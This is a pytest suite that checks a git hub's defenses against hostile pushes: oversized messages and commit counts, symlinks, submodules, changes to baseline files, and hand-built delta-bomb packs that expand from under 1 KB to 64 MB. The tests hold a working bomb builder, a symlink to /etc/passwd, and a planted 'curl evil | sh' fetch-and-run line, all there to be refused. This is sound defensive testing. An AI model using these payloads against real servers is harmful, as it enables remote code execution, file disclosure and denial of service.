"""The hub's git side under hostile pushes (issue 17): delta bombs, huge messages, too many commits, trees that
are not plain files or that change more than train.py, huge diffs.

The bombs are packs written byte by byte here (a base blob and a REF_DELTA whose copy instructions repeat it), so
the expected sizes are counted by hand, not by git. Each refused push must leave the hub as it was (index rows,
objects, incoming/), and the server's peak memory (VmHWM) must stay within a bound well below the bomb's size.
Run: uv run pytest tests/test_hub_hostile_git.py
"""
import hashlib
import importlib.util
import struct
import subprocess
import threading
import zlib
from pathlib import Path

import pytest
from hub import core, gitrepo
from hub_helpers import (BASE_ENV, ROOT, HubServer, baseline_checkout, bundle, commit_change, git, hub_state,
                         make_repo)

MB = 1024 * 1024
LIMITS = ("--max-object-mb", "16", "--max-push-mb", "32", "--max-message-kb", "4", "--max-commits-per-push", "5",
          "--max-diff-kb", "64")
BLOB, COMMIT, TREE, REF_DELTA = 3, 1, 2, 7
PERSON = b"mallory <mallory@example.com> 1700000000 +0000"

# ---------------------------------------------------------------------------
# Pack format by hand: https://git-scm.com/docs/pack-format


def varint(n: int) -> bytes:
    """A delta header's size: 7 bits a byte, least significant first."""
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def entry_header(kind: int, size: int) -> bytes:
    """An object's type and inflated size: 4 bits of size in the first byte, then 7 bits a byte."""
    out = bytearray([(kind << 4) | (size & 0x0F) | (0x80 if size > 0x0F else 0)])
    size >>= 4
    while size:
        out.append((size & 0x7F) | (0x80 if size > 0x7F else 0))
        size >>= 7
    return bytes(out)


def whole(kind: int, data: bytes) -> bytes:
    return entry_header(kind, len(data)) + zlib.compress(data)


def ref_delta(base: bytes, delta: bytes) -> bytes:
    return entry_header(REF_DELTA, len(delta)) + base + zlib.compress(delta)


def repeat_delta(base_size: int, copies: int) -> bytes:
    """A delta that copies all of a 64 KB base `copies` times: opcode 0x80 alone means offset 0, size 0x10000."""
    assert base_size == 0x10000
    return varint(base_size) + varint(base_size * copies) + b"\x80" * copies


def object_id(kind: str, data: bytes) -> bytes:
    return hashlib.sha1(f"{kind} {len(data)}\0".encode() + data).digest()


def repeated_blob_id(base: bytes, copies: int) -> bytes:
    """The id of `base * copies`, hashed in pieces so the test never holds the bomb either."""
    h = hashlib.sha1(f"blob {len(base) * copies}\0".encode())
    for _ in range(copies):
        h.update(base)
    return h.digest()


def tree(files: dict[str, bytes]) -> bytes:
    return b"".join(b"100644 " + name.encode() + b"\0" + sha for name, sha in sorted(files.items()))


def commit(tree_id: bytes, message: bytes) -> bytes:
    return b"tree " + tree_id.hex().encode() + b"\nauthor " + PERSON + b"\ncommitter " + PERSON + b"\n\n" + message


def pack_bundle(head: bytes, entries: list[bytes]) -> bytes:
    body = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return f"# v2 git bundle\n{head.hex()} refs/heads/main\n\n".encode() + body + hashlib.sha1(body).digest()


def bomb(copies_per_file: list[int]) -> bytes:
    """One commit whose files are each a 64 KB base repeated n times: a few hundred bytes that expand to
    64 KB x sum(n) in the repository."""
    base = bytes(range(256)) * 256
    base_id = object_id("blob", base)
    files = {f"f{i}": repeated_blob_id(base, n) for i, n in enumerate(copies_per_file)}
    tree_data = tree(files)
    commit_data = commit(object_id("tree", tree_data), b"bomb\n")
    entries = [whole(BLOB, base)] + [ref_delta(base_id, repeat_delta(len(base), n)) for n in copies_per_file]
    return pack_bundle(object_id("commit", commit_data), entries + [whole(TREE, tree_data), whole(COMMIT, commit_data)])


def peak_rss_mb(server: HubServer) -> float:
    status = Path(f"/proc/{server.proc.pid}/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmHWM:")).split()[1]) / 1024

# ---------------------------------------------------------------------------
# Fixtures: one hub with small limits, its baseline pushed by agent alice


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    server = HubServer(tmp_path_factory.mktemp("hostile") / "data", "--max-registrations-per-hour", "1000",
                       *LIMITS).start()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def alice(hub, tmp_path_factory):
    """An agent whose repository holds the hub's baseline files (the operator's, --baseline-from)."""
    agent = hub.register("alice")
    agent.repo = make_repo(tmp_path_factory.mktemp("alice") / "repo", "alice")
    assert agent.push(bundle(agent.repo)).status_code == 200
    agent.baseline = git(agent.repo, "rev-parse", "HEAD")
    return agent


def refused(agent, body: bytes, status: int, words: str) -> None:
    """The push is refused with this status and message, and nothing of it is visible."""
    before = hub_state(agent.hub.data)
    r = agent.push(body)
    assert r.status_code == status and words in r.json()["error"], r.text
    assert hub_state(agent.hub.data) == before


def branch(agent, name: str) -> Path:
    """A fresh checkout of the baseline to build a push in."""
    path = agent.repo.parent / name
    git(agent.repo, "worktree", "add", "--quiet", "--detach", str(path), agent.baseline)
    return path

# ---------------------------------------------------------------------------
# Item 1: delta bombs and huge diffs


def test_hand_built_pack_is_what_git_reads(alice, tmp_path):
    """The pack writer itself, checked by git: a small bomb unbundles into a blob of the hand-counted size."""
    body = bomb([3])
    (tmp_path / "b.bundle").write_bytes(body)
    subprocess.run(["git", "init", "--quiet", str(tmp_path / "r")], check=True, env=BASE_ENV)
    git(tmp_path / "r", "fetch", "--quiet", str(tmp_path / "b.bundle"), "main:bomb")
    assert git(tmp_path / "r", "cat-file", "-s", "bomb:f0") == str(3 * 65536)
    git(tmp_path / "r", "fsck", "--strict")


def test_delta_bomb_is_refused_before_anything_is_visible(hub, alice):
    body = bomb([1024])  # 64 MB from one object
    assert len(body) < 1024
    rss = peak_rss_mb(hub)
    refused(alice, body, 413, "expands to 64 MB; the hub takes objects up to 16 MB (--max-object-mb)")
    refused(alice, bomb([199, 200, 201]), 413, "expand to 37 MB; the hub takes up to 32 MB a push (--max-push-mb)")
    assert peak_rss_mb(hub) - rss < 16  # the server never holds an expanded object


def test_git_itself_runs_in_bounded_memory_and_time(tmp_path, monkeypatch):
    """Unpacking a 100 MB bomb needs the whole blob in git's memory: under a 64 MB address-space limit git fails,
    and the hub calls that too large; a git call past its time limit is too large as well."""
    repo, quarantine = tmp_path / "repo.git", tmp_path / "quarantine"
    gitrepo.init_repo(repo)
    (quarantine / "pack").mkdir(parents=True)
    (tmp_path / "bomb.bundle").write_bytes(bomb([1600]))
    offset = gitrepo.read_bundle_header(tmp_path / "bomb.bundle").pack_offset
    env = gitrepo.quarantine_env(repo, quarantine)
    monkeypatch.setattr(gitrepo, "GIT_MEMORY", 64 * MB)
    with pytest.raises(gitrepo.TooLarge, match="past git's memory limit"):
        gitrepo.index_pack(repo, tmp_path / "bomb.bundle", offset, env)
    monkeypatch.setattr(gitrepo, "GIT_MEMORY", 1024 * MB)
    monkeypatch.setattr(gitrepo, "GIT_TIMEOUT_S", 0.001)
    with pytest.raises(gitrepo.TooLarge, match="longer than 0.001 s"):
        gitrepo.index_pack(repo, tmp_path / "bomb.bundle", offset, env)


def test_git_jobs_and_queued_pushes_are_bounded(tmp_path, monkeypatch):
    """A git call waits for a free job slot; a push that waits for the push lock too long is turned away (503)
    instead of holding a worker thread."""
    monkeypatch.setattr(gitrepo, "GIT_JOBS", threading.BoundedSemaphore(1))
    gitrepo.GIT_JOBS.acquire()  # the one slot is taken
    done = threading.Event()
    caller = threading.Thread(target=lambda: (gitrepo.git(tmp_path, "--version"), done.set()))
    caller.start()
    assert not done.wait(0.5)
    gitrepo.GIT_JOBS.release()
    assert done.wait(10)
    caller.join()

    monkeypatch.setattr(core, "PUSH_WAIT_S", 0.1)
    hub = core.Hub(core.Config(tmp_path / "data"))
    with hub.push_lock, pytest.raises(core.HubError, match="busy with other pushes") as refused_push:
        hub.push(tmp_path / "unread.bundle", "alice")
    assert refused_push.value.status == 503


def test_diff_is_cut_at_the_limit(hub, alice):
    repo = branch(alice, "wide")
    big = commit_change(repo, "".join(f"x{i} = {i}\n" for i in range(40_000)), "a long train.py")  # ~500 KB
    assert alice.push(bundle(repo)).status_code == 200
    rss = peak_rss_mb(hub)
    r = alice.get(f"/api/git/diff/{alice.baseline[:7]}/{big[:7]}")
    assert r.status_code == 200 and r.text.endswith("\n[diff cut at 64 KB (--max-diff-kb)]\n")
    shown = r.text[:-len("\n[diff cut at 64 KB (--max-diff-kb)]\n")]
    full = subprocess.run(["git", "diff", alice.baseline, big], cwd=repo, capture_output=True, check=True).stdout
    assert len(full) > 400_000 and shown.encode() == full[:64 * 1024]  # git in the agent's checkout is the reference
    assert peak_rss_mb(hub) - rss < 16

# ---------------------------------------------------------------------------
# Items 2 and 5: messages and commits per push


def test_long_message_is_refused_and_lists_carry_a_short_subject(alice):
    repo = branch(alice, "wordy")
    commit_change(repo, "lr = 2.0\n", "x" * 5000)
    refused(alice, bundle(repo), 413, "message is over 4 KB")
    git(repo, "commit", "--quiet", "--amend", "-m", "y" * 100_000)  # refused by its size, before git log reads it
    refused(alice, bundle(repo), 413, "is 97 KB: its message is over the hub's limit (--max-message-kb)")
    git(repo, "reset", "--quiet", "--hard", alice.baseline)
    sha = commit_change(repo, "lr = 3.0\n", "s" * 300 + "\n\n" + "body\n" * 500)  # ~2.8 KB: under the limit
    assert alice.push(bundle(repo)).status_code == 200
    listed = {c["hash"]: c["message"] for c in alice.get("/api/git/leaves").json()}
    assert listed[sha] == "s" * 200
    assert alice.get(f"/api/git/commits/{sha}").json()["message"] == "s" * 300 + "\n\n" + ("body\n" * 500).strip()


def test_commits_per_push_are_capped(alice):
    repo = branch(alice, "many")
    for i in range(6):
        commit_change(repo, f"step = {i}\n", f"step {i}")
    refused(alice, bundle(repo), 413, "more than 5 commits")
    git(repo, "reset", "--quiet", "--hard", "HEAD~1")
    assert len(alice.push(bundle(repo)).json()["added"]) == 5

# ---------------------------------------------------------------------------
# Item 6: plain files only, and only train.py may differ from the baseline


def test_symlinks_submodules_and_fixed_files_are_refused(alice):
    repo = branch(alice, "trees")
    (repo / "train.py").unlink()
    (repo / "train.py").symlink_to("/etc/passwd")
    git(repo, "commit", "--quiet", "-am", "link")
    refused(alice, bundle(repo), 400, "has a symlink at 'train.py'")

    git(repo, "reset", "--quiet", "--hard", alice.baseline)
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{alice.baseline},vendor")
    git(repo, "commit", "--quiet", "-m", "submodule")
    refused(alice, bundle(repo), 400, "has a submodule at 'vendor'")

    for path, change in (("uv.lock", "evil = 1\n"), ("prepare.py", "x = 1\n"), ("notes.md", "hi\n")):
        git(repo, "reset", "--quiet", "--hard", alice.baseline)
        with open(repo / path, "a") as f:
            f.write(change)
        git(repo, "add", path)
        git(repo, "commit", "--quiet", "-m", f"change {path}")
        operators = git(baseline_checkout(), "rev-parse", "HEAD")
        refused(alice, bundle(repo), 400, f"changes {path!r}, which must match the hub's baseline {operators}")


def test_orphan_baselines_are_taken_only_when_they_match(alice):
    repo = branch(alice, "orphan")
    git(repo, "checkout", "--quiet", "--orphan", "mine")
    git(repo, "commit", "--quiet", "-m", "my baseline")  # the same files as the hub's baseline
    sha = git(repo, "rev-parse", "HEAD")
    assert sha != alice.baseline and alice.push(bundle(repo)).json()["added"] == [sha]
    git(repo, "checkout", "--quiet", "--orphan", "other")
    (repo / "pyproject.toml").write_text("[project]\ndependencies = ['evil']\n")
    git(repo, "commit", "--quiet", "-am", "another baseline")
    refused(alice, bundle(repo), 400, "changes 'pyproject.toml'")


def test_the_first_orphan_cannot_set_the_baseline(tmp_path):
    """The baseline is the operator's checkout, not whatever orphan an agent pushes first."""
    hostile, honest = make_repo(tmp_path / "hostile", "hostile"), make_repo(tmp_path / "honest", "honest")
    git(hostile, "checkout", "--quiet", "--orphan", "mine")
    (hostile / "prepare.py").write_text("import os; os.system('curl evil | sh')\n")
    (hostile / "pyproject.toml").write_text("[project]\ndependencies = ['evil']\n")
    git(hostile, "commit", "--quiet", "-am", "baseline")
    git(honest, "checkout", "--quiet", "--orphan", "mine")  # as program-hub.md's setup makes it
    git(honest, "commit", "--quiet", "-m", "baseline")
    server = HubServer(tmp_path / "data").start()
    try:
        mallory, bob = server.register("mallory"), server.register("bob")
        refused(mallory, bundle(hostile), 400, "changes 'prepare.py', which must match the hub's baseline")
        assert bob.push(bundle(honest)).status_code == 200
    finally:
        server.stop()


def test_without_a_baseline_flag_it_is_the_checkout_hub_py_is_in(tmp_path):
    spec = importlib.util.spec_from_file_location("hub_main", ROOT / "hub.py")  # not the hub/ package
    hub_main = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(hub_main)
    assert hub_main.baseline_files(hub_main.parse_args(["--data", "d"]))[0] == git(ROOT, "rev-parse", "HEAD")
    with pytest.raises(SystemExit, match="not a git checkout"):
        hub_main.baseline_files(hub_main.parse_args(["--data", "d", "--baseline-from", str(tmp_path)]))


def test_named_baseline_must_be_pushed_first(tmp_path):
    repo = make_repo(tmp_path / "repo", "named")
    named = git(repo, "rev-parse", "HEAD")
    commit_change(repo, "lr = 0.1\n", "child")
    other = make_repo(tmp_path / "other", "other")
    (other / "uv.lock").write_text("different\n")
    git(other, "commit", "--quiet", "-am", "a different lock")
    server = HubServer(tmp_path / "data", "--baseline", named).start()
    try:
        agent = server.register("bob")
        refused(agent, bundle(other), 400, f"the hub's baseline is commit {named}")
        assert len(agent.push(bundle(repo)).json()["added"]) == 2
        refused(agent, bundle(other), 400, "changes 'uv.lock'")
    finally:
        server.stop()
